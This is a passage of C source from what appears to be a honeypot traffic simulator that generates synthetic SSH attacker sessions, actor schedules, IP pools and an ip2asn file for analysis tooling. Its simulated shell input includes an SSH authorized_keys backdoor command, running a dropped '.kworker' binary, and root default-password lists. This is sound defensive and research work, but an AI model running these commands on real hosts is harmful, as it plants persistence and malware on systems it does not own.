static void run_keyinject_b(run_ctx *c)
{
    begin(c, pick_ip(c, 11), 0, SIM_CL_OPENSSH73, 0);
    sim_wait(&c->s, 40 * MS, 100 * MS);
    char full[600];
    snprintf(full, sizeof full, "ssh-rsa %s", key_b);
    if (sim_chance(R(c), 0.4))
        sim_ev_fingerprint(&c->s, "root", "ssh-rsa", full, key_b_fp);
    static const char *const pw[] = {"centos", "redhat", "server", "linux", "1q2w3e"};
    if (!try_login(c, "root", pw[sim_below(R(c), NELEM(pw))], 300 * MS, 800 * MS)) {
        close_session(c, 20 * MS, 200 * MS);
        return;
    }
    sim_wait(&c->s, 100 * MS, 300 * MS);
    sim_ev_shell(&c->s, rand_arch(c));
    char cmd[800], sha[65];
    shell_cmd(c, "uname -a; id", 500 * MS, 1500 * MS);
    snprintf(cmd, sizeof cmd,
             "mkdir -p ~/.ssh; echo 'ssh-rsa %s rsa-key-20230901' > ~/.ssh/authorized_keys; chmod "
             "600 ~/.ssh/authorized_keys",
             key_b);
    shell_cmd(c, cmd, 500 * MS, 1500 * MS);
    sim_wait(&c->s, 2 * MS, 10 * MS);
    sha_of(key_b, sha);
    sim_ev_redirect(&c->s, "/root/.ssh/authorized_keys", sha);
    shell_cmd(c, "cat ~/.ssh/authorized_keys", 500 * MS, 1500 * MS);
    close_session(c, 100 * MS, 500 * MS);
}

/* ---- 12: SFTP dropper ------------------------------------------------------------------------ */

static void run_sftp(run_ctx *c)
{
    begin(c, pick_ip(c, 12), 0, SIM_CL_RASPBIAN, 0);
    if (!try_login(c, "root", "qwe123!@#", 200 * MS, 500 * MS)) {
        close_session(c, 20 * MS, 200 * MS);
        return;
    }
    char sha[65];
    sim_wait(&c->s, 1 * SEC, 3 * SEC);
    sha_of("sftp-kworker-2.1", sha);
    sim_ev_upload(&c->s, ".kworker", sha);
    if (sim_chance(R(c), 0.5)) {
        sim_wait(&c->s, 300 * MS, 1 * SEC);
        sha_of("sftp-config-2.1", sha);
        sim_ev_upload(&c->s, "config.json", sha);
    }
    exec_cmd(c, "linux-x64-lsb", "chmod +x /tmp/.kworker && /tmp/.kworker -c /tmp/config.json -d",
             NULL, 300 * MS, 900 * MS);
    close_session(c, 100 * MS, 400 * MS);
}

/* ---- 13: background noise ------------------------------------------------------------------- */

static void random_ipv4(run_ctx *c, char *out, size_t n)
{
    unsigned a;
    do {
        a = 1 + sim_below(R(c), 223);
    } while (a == 10 || a == 127 || a == 100 || a == 169 || a == 172 || a == 192 || a == 198);
    snprintf(out, n, "%u.%u.%u.%u", a, sim_below(R(c), 256), sim_below(R(c), 256),
             1 + sim_below(R(c), 254));
}

static void run_noise(run_ctx *c)
{
    char ip[48];
    if (sim_chance(R(c), 0.01))
        snprintf(ip, sizeof ip, "2a02:%x:%x:%x::%x", 0x1000 + sim_below(R(c), 0xe000),
                 sim_below(R(c), 0xffff), sim_below(R(c), 0xffff), 1 + sim_below(R(c), 0xfff));
    else
        random_ipv4(c, ip, sizeof ip);
    int scanner = sim_chance(R(c), 0.65);
    int telnet = sim_chance(R(c), scanner ? 0.25 : 0.08);
    static const unsigned clients[] = {SIM_CL_GO_OLD,  SIM_CL_GO_OLD,      SIM_CL_LIBSSH063,
                                       SIM_CL_LIBSSH082, SIM_CL_LIBSSH2_143, SIM_CL_PUTTY,
                                       SIM_CL_ERLANG,  SIM_CL_SHODAN,      SIM_CL_OPENSSH82,
                                       SIM_CL_PARAMIKO};
    unsigned cl = clients[sim_below(R(c), NELEM(clients))];
    if (scanner && !telnet && sim_chance(R(c), 0.15)) {
        /* bare TCP connect: no banner exchange */
        sim_session_begin(&c->s, c->w, c->sensor, c->start, ip, 0, NULL, (uint16_t)c->actor, 0);
        sim_ev_connect(&c->s);
        close_session(c, 50 * MS, 5 * SEC);
        return;
    }
    begin(c, ip, telnet, cl, 0);
    if (scanner) {
        if (telnet)
            close_session(c, 120 * SEC, 121 * SEC); /* Cowrie's telnet login timeout */
        else
            close_session(c, 100 * MS, 10 * SEC);
        return;
    }
    const char *u = common_users[sim_below(R(c), NELEM(common_users))];
    const char *p = common_passwords[sim_below(R(c), NELEM(common_passwords))];
    if (sim_chance(R(c), 0.02)) {
        /* mangled client input as seen in real logs: control characters and non-ASCII */
        static const char *const odd[] = {"7ujMko0admin\x14", "H\xe2\x80\xb9\x05\xc3\xb6\xc3\x86O",
                                          "pass\"word\\", "\xf0\x9f\x94\x91key", "line\nbreak\t"};
        p = odd[sim_below(R(c), NELEM(odd))];
    }
    if (!strcmp(u, "root"))
        p = sim_chance(R(c), 0.5) ? "root" : "123456";
    try_login(c, u, p, 200 * MS, 1 * SEC);
    close_session(c, 20 * MS, 300 * MS);
}

/* ---- the actor table ------------------------------------------------------------------------- */

static const actor_def actor_defs[] = {
    {"mdrfckr", {"mdrfckr-keys", "mdrfckr-dota"}, 200, T_UNIFORM, 0, 0, 1, run_mdrfckr},
    {"mirai_ecchi", {"ecchi-bins"}, 700, T_UNIFORM, 0, 0, 1, run_mirai},
    {"xmrig_miner", {"xmrig-wallet-48ASi"}, 200, T_DIURNAL, 9, 0, 0, run_xmrig},
    {"recon_scout", {"recon"}, 250, T_DIURNAL, 14, 0, 1, run_recon},
    {"snowshoe_stuffer", {"snowshoe-list"}, 2400, T_BURSTS, 0, 0, 0, run_snowshoe},
    {"ssh_bruteforcer", {"bruteforce-wordlist"}, 1500, T_BURSTS, 0, 1, 0, run_brute},
    {"proxy_abuser", {"proxy-web", "proxy-mail"}, 3600, T_UNIFORM, 0, 0, 0, run_proxy},
    {"pubscript_fast", {"hpdetect-fast"}, 200, T_DIURNAL, 2, 0, 0, run_pub_a},
    {"pubscript_slow", {"hpdetect-slow"}, 120, T_DIURNAL, 15, 0, 0, run_pub_b},
    {"rotating_loader", {"loader-v1", "loader-v2"}, 300, T_DIURNAL, 20, 0, 0, run_rotating},
    {"cloud_curlpipe", {"curlpipe-k"}, 150, T_DIURNAL, 11, 0, 0, run_curlpipe},
    {"keyinject_b", {"keyinject-rsa-key-20230901"}, 150, T_UNIFORM, 0, 0, 0, run_keyinject_b},
    {"sftp_dropper", {"sftp-kworker"}, 100, T_DIURNAL, 6, 0, 0, run_sftp},
    {"noise", {"noise"}, 10500, T_UNIFORM, 0, 0, 0, run_noise},
};
#define NACTORS NELEM(actor_defs)

size_t sim_actor_count(void) { return NACTORS; }
const char *sim_actor_name(size_t a) { return a < NACTORS ? actor_defs[a].name : "?"; }
size_t sim_campaign_count(size_t a)
{
    size_t n = 0;
    while (a < NACTORS && n < 3 && actor_defs[a].campaigns[n])
        n++;
    return n;
}
const char *sim_campaign_name(size_t a, size_t c)
{
    return (a < NACTORS && c < 3 && actor_defs[a].campaigns[c]) ? actor_defs[a].campaigns[c] : "?";
}

/* ---- infrastructure ------------------------------------------------------------------------- */

static int pool_add(ip_pool *p, const char *ip)
{
    /* small pools live in a few /24s where repeats are likely; big ones are spread world-wide */
    for (size_t i = 0; p->n < 512 && i < p->n; i++)
        if (!strcmp(p->ip[i], ip))
            return 0;
    if (p->n == p->cap) {
        size_t cap = p->cap ? p->cap * 2 : 16;
        char(*n)[48] = realloc(p->ip, cap * sizeof *n);
        if (!n)
            return -1;
        p->ip = n;
        p->cap = cap;
    }
    snprintf(p->ip[p->n++], 48, "%s", ip);
    return 0;
}

/* count hosts inside the given /24 prefixes ("a.b.c"), or inside a.b.0.0/16 when the prefix has
 * two parts. */
static int pool_prefixes(ip_pool *p, sim_rng *r, const char *const *prefixes, size_t np,
                         unsigned count)
{
    char ip[48];
    for (unsigned k = 0; p->n < count && k < count * 8; k++) {
        const char *pre = prefixes[sim_below(r, (uint32_t)np)];
        int dots = 0;
        for (const char *q = pre; *q; q++)
            dots += *q == '.';
        if (dots == 1)
            snprintf(ip, sizeof ip, "%s.%u.%u", pre, sim_below(r, 256), 1 + sim_below(r, 254));
        else
            snprintf(ip, sizeof ip, "%s.%u", pre, 2 + sim_below(r, 252));
        if (pool_add(p, ip))
            return -1;
    }
    return 0;
}

static int pool_world(ip_pool *p, sim_rng *r, unsigned count, const unsigned *firsts, size_t nf)
{
    char ip[48];
    while (p->n < count) {
        unsigned a;
        if (firsts) {
            a = firsts[sim_below(r, (uint32_t)nf)];
        } else {
            do {
                a = 1 + sim_below(r, 223);
            } while (a == 10 || a == 127 || a == 100 || a == 169 || a == 172 || a == 192 ||
                     a == 198);
        }
        snprintf(ip, sizeof ip, "%u.%u.%u.%u", a, sim_below(r, 256), sim_below(r, 256),
                 1 + sim_below(r, 254));
        if (pool_add(p, ip))
            return -1;
    }
    return 0;
}

static int pool_v6(ip_pool *p, sim_rng *r, const char *prefix, unsigned count)
{
    char ip[48];
    for (unsigned i = 0; i < count; i++) {
        snprintf(ip, sizeof ip, "%s:%x::%x", prefix, 0x1000 + sim_below(r, 0xe000),
                 1 + sim_below(r, 0xff));
        if (pool_add(p, ip))
            return -1;
    }
    return 0;
}

static int build_pools(actors_state *st, sim_rng *r)
{
    static const unsigned residential[] = {14,  27,  36,  37,  41,  45,  49,  59,  61,  77,
                                           78,  95,  103, 110, 112, 113, 115, 116, 117, 118,
                                           121, 122, 123, 125, 171, 175, 177, 179, 180, 181,
                                           182, 183, 186, 187, 189, 190, 191, 200, 201};
    static const char *const do_range[] = {"167.99"}; /* one cloud provider's /16 */
    static const char *const recon4[] = {"95.217.44"};
    static const char *const snow[] = {"45.148.8",  "45.148.9",  "45.148.10", "45.148.11",
                                       "45.148.12", "45.148.13", "45.148.14", "45.148.15"};
    static const char *const brute[] = {"218.92.0"};
    static const char *const proxy[] = {"5.188.62", "141.98.81"};
    static const char *const puba[] = {"103.75.190"};
    static const char *const pubb[] = {"193.106.191"};
    static const char *const rot[] = {"80.94.92", "80.94.95"};
    static const char *const sftp4[] = {"51.15.204", "51.158.108"};
    if (pool_world(&st->pools[0], r, 900, NULL, 0) ||
        pool_world(&st->pools[1], r, 4000, residential, NELEM(residential)) ||
        pool_prefixes(&st->pools[2], r, do_range, 1, 6) ||
        pool_prefixes(&st->pools[3], r, recon4, 1, 3) ||
        pool_v6(&st->pools[3], r, "2a01:4f9:c011", 4) ||
        pool_prefixes(&st->pools[4], r, snow, NELEM(snow), 170) ||
        pool_prefixes(&st->pools[5], r, brute, 1, 3) ||
        pool_prefixes(&st->pools[6], r, proxy, NELEM(proxy), 14) ||
        pool_prefixes(&st->pools[7], r, puba, 1, 10) ||
        pool_prefixes(&st->pools[8], r, pubb, 1, 6) ||
        pool_prefixes(&st->pools[9], r, rot, NELEM(rot), 12) ||
        pool_prefixes(&st->pools[10], r, do_range, 1, 8) ||
        pool_world(&st->pools[11], r, 60, NULL, 0) ||
        pool_prefixes(&st->pools[12], r, sftp4, NELEM(sftp4), 4) ||
        pool_v6(&st->pools[12], r, "2001:bc8:1830", 3))
        return -1;
    /* the recon scout comes in over IPv6 more often than not: put v6 first (most picked) */
    ip_pool *rp = &st->pools[3];
    for (size_t i = 0; i < 3 && i + 3 < rp->n; i++) {
        char tmp[48];
        memcpy(tmp, rp->ip[i], 48);
        memcpy(rp->ip[i], rp->ip[i + 3], 48);
        memcpy(rp->ip[i + 3], tmp, 48);
    }
    return 0;
}

/* ---- the autonomous systems of the simulated address space (DIR/ip2asn.tsv) ------------------ */

/* The providers behind the actor pools above, as an analyst's ip2asn file would list them. Where
 * a pool really lies in a provider's block (DigitalOcean 167.99/16, Hetzner 95.216/15 and
 * 2a01:4f8::/29, Scaleway 51.15/16, 51.158/15 and 2001:bc8::/32, Chinanet 218.92/16) that
 * provider's real ASN is used; the other hosting ranges get private-use ASNs (RFC 6996) with
 * SIM- names, so the simulation never pins abuse on a real network. xmrig_miner and
 * cloud_curlpipe share AS14061: the "actors sharing a cloud ASN" hard case. Sorted by start;
 * no range crosses a /8 boundary. */
typedef struct sim_as_range {
    uint32_t start, end; /* host order */
    uint32_t asn;
    const char *cc, *org;
} sim_as_range;

#define IP4(a, b, c, d)                                                                          \
    ((uint32_t)(a) << 24 | (uint32_t)(b) << 16 | (uint32_t)(c) << 8 | (uint32_t)(d))

static const sim_as_range infra_asns[] = {
    {IP4(5, 188, 62, 0), IP4(5, 188, 62, 255), 4200000011u, "RU", "SIM-PROXYHOST-A"},
    {IP4(45, 148, 8, 0), IP4(45, 148, 15, 255), 4200000013u, "NL", "SIM-SNOWSHOE-NET"},
    {IP4(51, 15, 0, 0), IP4(51, 15, 255, 255), 12876, "FR", "SCALEWAY S.A.S."},
    {IP4(51, 158, 0, 0), IP4(51, 159, 255, 255), 12876, "FR", "SCALEWAY S.A.S."},
    {IP4(80, 94, 92, 0), IP4(80, 94, 95, 255), 4200000016u, "RO", "SIM-BULLETPROOF-HOSTING"},
    {IP4(95, 216, 0, 0), IP4(95, 217, 255, 255), 24940, "DE", "HETZNER-AS"},
    {IP4(103, 75, 190, 0), IP4(103, 75, 190, 255), 4200000014u, "HK", "SIM-VPS-ASIA"},
    {IP4(141, 98, 81, 0), IP4(141, 98, 81, 255), 4200000012u, "LT", "SIM-PROXYHOST-B"},
    {IP4(167, 99, 0, 0), IP4(167, 99, 255, 255), 14061, "US", "DIGITALOCEAN-ASN"},
    {IP4(193, 106, 191, 0), IP4(193, 106, 191, 255), 4200000015u, "RU", "SIM-VPS-EU"},
    {IP4(218, 92, 0, 0), IP4(218, 92, 255, 255), 4134, "CN",
     "CHINANET-BACKBONE No.31,Jin-rong Street"},
};

/* Everything else the simulator draws addresses from (noise, mdrfckr, mirai_ecchi, keyinject_b:
 * first octets 1-223 except 10, 100, 127, 169, 172, 192, 198) belongs to a few synthetic
 * residential ISPs, one per block of first octets. */
static const struct {
    unsigned first_octet_max;
    uint32_t asn;
    const char *cc, *org;
} residential_asns[] = {
    {39, 4200000001u, "CN", "SIM-BROADBAND-CN"}, {79, 4200000002u, "DE", "SIM-BROADBAND-EU"},
    {119, 4200000003u, "IN", "SIM-MOBILE-IN"},   {159, 4200000004u, "US", "SIM-CABLE-US"},
    {199, 4200000005u, "BR", "SIM-BROADBAND-BR"}, {223, 4200000006u, "VN", "SIM-FIBER-VN"},
};

/* IPv6, already in ip2asn text: the v6 pools (recon_scout, sftp_dropper) and the noise's
 * 2a02:1000-efff:: addresses (two residential ISPs that also hold IPv4 above). */
static const char infra_asns_v6[] =
    "2001:bc8::\t2001:bc8:ffff:ffff:ffff:ffff:ffff:ffff\t12876\tFR\tSCALEWAY S.A.S.\n"
    "2a01:4f8::\t2a01:4ff:ffff:ffff:ffff:ffff:ffff:ffff\t24940\tDE\tHETZNER-AS\n"
    "2a02::\t2a02:7fff:ffff:ffff:ffff:ffff:ffff:ffff\t4200000002\tDE\tSIM-BROADBAND-EU\n"
    "2a02:8000::\t2a02:ffff:ffff:ffff:ffff:ffff:ffff:ffff\t4200000006\tVN\tSIM-FIBER-VN\n";

static void put_range(FILE *f, uint32_t s, uint32_t e, uint32_t asn, const char *cc,
                      const char *org)
{
    fprintf(f, "%u.%u.%u.%u\t%u.%u.%u.%u\t%u\t%s\t%s\n", s >> 24, (s >> 16) & 255, (s >> 8) & 255,
            s & 255, e >> 24, (e >> 16) & 255, (e >> 8) & 255, e & 255, asn, cc, org);
}

int sim_asn_write(FILE *f)
{
    size_t k = 0; /* next infra_asns entry */
    for (unsigned a = 0; a < 224; a++) {
        uint32_t lo = (uint32_t)a << 24, hi = lo | 0xFFFFFFu;
        if (a == 0 || a == 10 || a == 127) {
            put_range(f, lo, hi, 0, "None", "Not routed");
            continue;
        }
        if (a == 100 || a == 169 || a == 172 || a == 192 || a == 198)
            continue; /* never drawn: left out, as an incomplete real file would */
        size_t r = 0;
        while (a > residential_asns[r].first_octet_max)
            r++;
        uint32_t next = lo;
        for (; k < NELEM(infra_asns) && infra_asns[k].start <= hi; k++) {
            const sim_as_range *x = &infra_asns[k];
            if (x->start > next)
                put_range(f, next, x->start - 1, residential_asns[r].asn, residential_asns[r].cc,
                          residential_asns[r].org);
            put_range(f, x->start, x->end, x->asn, x->cc, x->org);
            next = x->end + 1;
        }
        if (next != 0 && next <= hi)
            put_range(f, next, hi, residential_asns[r].asn, residential_asns[r].cc,
                      residential_asns[r].org);
    }
    put_range(f, IP4(224, 0, 0, 0), IP4(255, 255, 255, 255), 0, "None", "Not routed");
    fputs(infra_asns_v6, f);
    return ferror(f) ? -1 : 0;
}

ap_status sim_actors_init(sim_world *w)
{
    actors_state *st = calloc(1, sizeof *st);
    if (!st)
        return AP_ERR_NOMEM;
    w->actors = st;
    sim_rng r;
    sim_rng_seed(&r, w->seed ^ UINT64_C(0xA5A5F00DBEEF1234));
    if (build_pools(st, &r))
        return AP_ERR_NOMEM;
    st->snow_cursor = calloc(w->nsensors ? w->nsensors : 1, sizeof *st->snow_cursor);
    /* the stuffing list: every user with every password, in one fixed shuffled order */
    st->snow_n = NELEM(common_users) * NELEM(common_passwords);
    st->snow_list = malloc(st->snow_n * sizeof *st->snow_list);
    if (!st->snow_cursor || !st->snow_list)
        return AP_ERR_NOMEM;
    size_t k = 0;
    for (size_t p = 0; p < NELEM(common_passwords); p++)
        for (size_t u = 0; u < NELEM(common_users); u++)
            st->snow_list[k++] = (cred){common_users[u], common_passwords[p]};
    sim_rng lr;
    sim_rng_seed(&lr, UINT64_C(0x5A0E5A0E));
    for (size_t i = st->snow_n - 1; i > 0; i--) {
        size_t j = sim_below(&lr, (uint32_t)(i + 1));
        cred t = st->snow_list[i];
        st->snow_list[i] = st->snow_list[j];
        st->snow_list[j] = t;
    }
    return AP_OK;
}

void sim_actors_free(sim_world *w)
{
    actors_state *st = w->actors;
    if (!st)
        return;
    for (size_t i = 0; i < NELEM(st->pools); i++)
        free(st->pools[i].ip);
    free(st->snow_cursor);
    free(st->snow_list);
    free(st);
    w->actors = NULL;
}

/* ---- scheduling ----------------------------------------------------------------------------- */

static int cmp_i64(const void *a, const void *b)
{
    int64_t x = *(const int64_t *)a, y = *(const int64_t *)b;
    return x < y ? -1 : x > y;
}

static int64_t wrap_day(int64_t t)
{
    t %= SIM_US_PER_DAY;
    return t < 0 ? t + SIM_US_PER_DAY : t;
}

void sim_actors_run_day(sim_world *w, double scale)
{
    actors_state *st = w->actors;
    sim_rng *r = &w->rng;
    for (unsigned s = 0; s < w->nsensors; s++)
        st->snow_cursor[s] = 0;
    for (unsigned a = 0; a < NACTORS && !w->oom; a++) {
        const actor_def *d = &actor_defs[a];
        double want = d->per_day * scale * (0.85 + 0.3 * sim_unit(r));
        size_t n = (size_t)want + (sim_unit(r) < want - floor(want) ? 1 : 0);
        if (n == 0)
            continue;
        int64_t *times = malloc(n * sizeof *times);
        if (!times) {
            w->oom = 1;
            return;
        }
        int64_t bc[2], bw[2];
        for (int b = 0; b < 2; b++) {
            bc[b] = sim_range(r, 0, SIM_US_PER_DAY - 1);
            bw[b] = sim_range(r, 1 * 3600 * SEC, 3 * 3600 * SEC);
        }
        for (size_t i = 0; i < n; i++) {
            int64_t t;
            if (d->timing == T_DIURNAL) {
                double g = sim_unit(r) + sim_unit(r) + sim_unit(r) + sim_unit(r) - 2.0;
                t = (int64_t)d->peak_hour * 3600 * SEC + (int64_t)(g * 5.0 * 3600.0 * 1e6);
            } else if (d->timing == T_BURSTS) {
                int b = (int)sim_below(r, 2);
                t = bc[b] + (int64_t)((sim_unit(r) - 0.5) * (double)bw[b]);
            } else {
                t = sim_range(r, 0, SIM_US_PER_DAY - 1);
            }
            times[i] = wrap_day(t);
        }
        qsort(times, n, sizeof *times, cmp_i64);
        if (d->midnight)
            times[n - 1] = 86390 * SEC + sim_range(r, 0, 8 * SEC);
        unsigned day_sensor = (unsigned)(ap_hash64_seed(&w->day_index, sizeof w->day_index,
                                                        w->seed + a) %
                                         (w->nsensors ? w->nsensors : 1));
        run_ctx c;
        memset(&c, 0, sizeof c);
        c.w = w;
        c.st = st;
        c.actor = a;
        for (size_t i = 0; i < n && !w->oom; i++) {
            c.start = w->day_start + times[i];
            c.sensor = d->one_sensor ? day_sensor : sim_below(r, w->nsensors);
            d->script(&c);
        }
        free(times);
    }
}
